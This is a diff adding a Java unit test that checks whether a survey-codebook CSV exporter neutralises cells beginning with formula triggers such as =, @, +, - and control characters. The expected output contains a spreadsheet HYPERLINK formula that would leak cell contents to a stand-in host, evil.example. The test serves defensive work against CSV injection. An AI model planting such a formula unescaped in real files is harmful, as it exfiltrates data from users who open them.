@@ -45,4 +45,23 @@ class CodebookCsvTest {
                 calm_1r,calm,"I get ""heated""\",1,1,3,"1=no|2=somewhat|3=yes, fully",2
                 """);
     }
+
+    @Test
+    void neutralises_texts_labels_and_ids_a_spreadsheet_would_run_as_formulas_but_no_number() throws IOException {
+        Path file = folder.resolve(CodebookCsv.FILE_NAME);
+
+        CodebookCsv.write(List.of(FormulaStudy.instrument()), file);
+
+        // Read as it is: an item text that starts with a CR keeps it, quoted, as RFC 4180 allows
+        String labels = "'-3=@strongly disagree|-2=disagree|-1=somewhat disagree|0=neutral|1=somewhat agree|2=agree"
+                + "|3=strongly agree";
+        assertThat(java.nio.file.Files.readString(file)).isEqualTo("""
+                item_id,subscale,text,reverse,min,max,value_labels,instrument_version
+                '=1+1,'@calm,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")",0,-3,3,%1$s,1
+                calm_2,'@calm,'+1 when calm,0,-3,3,%1$s,1
+                trust_1,trust,'-I can rely on my partner.,0,-3,3,%1$s,1
+                trust_2,trust,'\tI keep checking up on my partner.,0,-3,3,%1$s,1
+                trust_3,trust,"'\rI feel safe.",0,-3,3,%1$s,1
+                """.formatted(labels));
+    }
 }
